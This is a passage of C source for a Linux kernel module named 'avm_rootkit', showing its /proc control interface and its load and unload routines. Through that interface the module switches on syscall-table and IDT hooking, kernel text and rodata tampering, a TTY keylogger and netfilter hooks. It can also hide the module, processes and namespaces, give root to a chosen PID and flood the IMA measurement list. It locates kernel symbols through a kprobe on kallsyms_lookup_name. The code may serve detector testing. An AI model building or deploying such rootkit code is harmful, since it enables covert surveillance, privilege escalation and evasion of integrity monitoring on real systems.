		list_add_tail_rcu(&qe->later, ima_measurements_p);
	}
	ima_flooded += i;
	if (ima_extend_list_mutex_p)
		mutex_unlock(ima_extend_list_mutex_p);
	return i == n ? 0 : -ENOMEM;
}

/* ---- /proc/avm_rootkit ---- */

static int rk_show(char *buf, size_t size)
{
	return scnprintf(buf, size,
			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nkeylog %d\nnf_hook %d\n"
			 "nf_hook_netns %u\nnf_hook_ingress %d\nhide_netns %u\nhide_module %d\n"
			 "hide_pid %d\nhide_tid %d\nhide_tid_count %d\nvanish_pid %d\nvanish_cg_pid %d\nvanish_va_pid %d\nroot_pid %d\neuid_pid %d\nadopt_pid %d\nadopt_exe_pid %d\nreparent_pid %d\nuntree_pid %d\n"
			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\ntty_bytes_seen %d\n"
			 "nf_packets_seen %d\nima_flooded %ld\n"
			 "tcp_prot_init %s\nn_tty_receive_buf2 %s\n"
			 "sys_call_table 0x%lx\nidt_gate 0x%lx\ntext_byte 0x%lx\nrodata_byte 0x%lx\n",
			 syscall_on, idt_on, text_on, rodata_on, fops_on, keylog_on, nf_hook_on,
			 nf_hook_net ? nf_hook_net->ns.inum : 0, !!rk_nf_ingress_ops.dev,
			 hidden_net ? hidden_net->ns.inum : 0, module_hidden,
			 hidden_task ? hidden_task->pid : 0,
			 hidden_thread && !hidden_thread_uncounted ? hidden_thread->pid : 0,
			 hidden_thread && hidden_thread_uncounted ? hidden_thread->pid : 0,
			 vanished_task && !vanished_cg ? vanished_task->pid : 0,
			 vanished_task && vanished_cg && !vanished_va ? vanished_task->pid : 0,
			 vanished_task && vanished_va ? vanished_task->pid : 0,
			 rooted_euid_only ? 0 : rooted_pid, rooted_euid_only ? rooted_pid : 0,
			 adopted_task && !adopted_exe ? adopted_task->pid : 0,
			 adopted_task && adopted_exe ? adopted_task->pid : 0,
			 reparented_task ? reparented_task->pid : 0,
			 untreed_task ? untreed_task->pid : 0,
			 atomic_read(&getpid_calls), atomic_read(&tcp_init_calls),
			 atomic_read(&tty_bytes_seen), atomic_read(&nf_packets_seen), ima_flooded,
			 READ_ONCE(tcp_prot.init) == hook_tcp_init ? "module" : "kernel",
			 n_tty_ops_p && READ_ONCE(n_tty_ops_p->receive_buf2) == hook_receive_buf2 ?
				 "module" : "kernel",
			 (unsigned long)sct, idt ? (unsigned long)&idt[RK_VECTOR] : 0,
			 (unsigned long)text_byte, (unsigned long)rodata_byte);
}

static ssize_t rk_read(struct file *f, char __user *ubuf, size_t count, loff_t *ppos)
{
	char buf[1536];
	int len;

	mutex_lock(&rk_lock);
	len = rk_show(buf, sizeof(buf));
	mutex_unlock(&rk_lock);
	return simple_read_from_buffer(ubuf, count, ppos, buf, len);
}

static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, loff_t *ppos)
{
	char buf[64], name[32];
	long val;
	int err;

	if (count >= sizeof(buf))
		return -EINVAL;
	if (copy_from_user(buf, ubuf, count))
		return -EFAULT;
	buf[count] = 0;
	if (sscanf(buf, "%31s %ld", name, &val) != 2)
		return -EINVAL;
	mutex_lock(&rk_lock);
	if (!strcmp(name, "syscall"))
		err = set_syscall(val);
	else if (!strcmp(name, "idt"))
		err = set_idt(val);
	else if (!strcmp(name, "text"))
		err = set_text(val);
	else if (!strcmp(name, "rodata"))
		err = set_rodata(val);
	else if (!strcmp(name, "fops"))
		err = set_fops(val);
	else if (!strcmp(name, "keylog"))
		err = set_keylog(val);
	else if (!strcmp(name, "nf_hook"))
		err = set_nf_hook(val);
	else if (!strcmp(name, "nf_hook_netns"))
		err = set_nf_hook_netns(val);
	else if (!strcmp(name, "nf_hook_ingress"))
		err = set_nf_hook_ingress(val);
	else if (!strcmp(name, "hide_netns"))
		err = set_hide_netns(val);
	else if (!strcmp(name, "hide_module"))
		err = set_hide_module(val);
	else if (!strcmp(name, "hide_pid"))
		err = hide_task(val);
	else if (!strcmp(name, "hide_tid"))
		err = hide_thread(val, false);
	else if (!strcmp(name, "hide_tid_count"))
		err = hide_thread(val, true);
	else if (!strcmp(name, "vanish_pid"))
		err = vanish_task(val, false, false);
	else if (!strcmp(name, "vanish_cg_pid"))
		err = vanish_task(val, true, false);
	else if (!strcmp(name, "vanish_va_pid"))
		err = vanish_task(val, true, true);
	else if (!strcmp(name, "root_pid"))
		err = root_task(val, false);
	else if (!strcmp(name, "euid_pid"))
		err = root_task(val, true);
	else if (!strcmp(name, "adopt_pid"))
		err = adopt_task(val, false);
	else if (!strcmp(name, "adopt_exe_pid"))
		err = adopt_task(val, true);
	else if (!strcmp(name, "reparent_pid"))
		err = reparent_task(val);
	else if (!strcmp(name, "untree_pid"))
		err = untree_task(val);
	else if (!strcmp(name, "ima_flood"))
		err = ima_flood(val);
	else
		err = -EINVAL;
	mutex_unlock(&rk_lock);
	return err ? err : count;
}

static const struct proc_ops rk_ops = {
	.proc_read = rk_read,
	.proc_write = rk_write,
	.proc_lseek = default_llseek,
};

static struct proc_dir_entry *rk_entry;

static kln_t find_kln(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long addr;

	if (kln)
		return (kln_t)kln;
	if (register_kprobe(&kp) < 0)
		return NULL;
	addr = (unsigned long)kp.addr;
	unregister_kprobe(&kp);
	return (kln_t)addr;
}

static int __init rk_init(void)
{
	struct desc_ptr dt;

	lookup = find_kln();
	if (!lookup) {
		pr_err("avm_rootkit: kallsyms_lookup_name not found\n");
		return -ENOENT;
	}
	sct = (syscall_fn_t *)lookup("sys_call_table");
	/* idt_table (read-only since boot); else what the CPU uses (its
	 * read-only alias in the CPU entry area, the same page) */
	idt = (gate_desc *)lookup("idt_table");
	if (!idt) {
		store_idt(&dt);
		idt = (gate_desc *)dt.address;
	}
	text_byte = find_text_byte(lookup(text_sym));
	rodata_byte = find_rodata_byte(lookup("__start_BTF"), lookup("__stop_BTF"));
	module_mutex_p = (struct mutex *)lookup("module_mutex");
	modules_p = (struct list_head *)lookup("modules");
	tasklist_lock_p = (rwlock_t *)lookup("tasklist_lock");
	pidmap_lock_p = (spinlock_t *)lookup("pidmap_lock");
	css_set_lock_p = (spinlock_t *)lookup("css_set_lock");
	find_vmap_area_p = (find_vmap_area_t)lookup("find_vmap_area");
	n_tty_ops_p = (struct tty_ldisc_ops *)lookup("n_tty_ops");
	ima_measurements_p = (struct list_head *)lookup("ima_measurements");
	ima_extend_list_mutex_p = (struct mutex *)lookup("ima_extend_list_mutex");

	rk_entry = proc_create("avm_rootkit", 0600, NULL, &rk_ops);
	if (!rk_entry)
		return -ENOMEM;
	pr_info("avm_rootkit: loaded (sys_call_table %px, idt %px, text %px, rodata %px)\n",
		sct, idt, text_byte, rodata_byte);
	return 0;
}

static void __exit rk_exit(void)
{
	proc_remove(rk_entry);
	mutex_lock(&rk_lock);
	set_syscall(false);
	set_idt(false);
	set_text(false);
	set_rodata(false);
	set_fops(false);
	set_keylog(false);
	set_nf_hook(false);
	set_nf_hook_netns(false);
	set_nf_hook_ingress(false);
	set_hide_netns(false);
	set_hide_module(false);
	vanish_task(0, false, false);
	hide_task(0);
	hide_thread(0, false);
	root_task(0, false);
	adopt_task(0, false);
	reparent_task(0);
	untree_task(0);
	mutex_unlock(&rk_lock);
	synchronize_rcu();
}

module_init(rk_init);
module_exit(rk_exit);
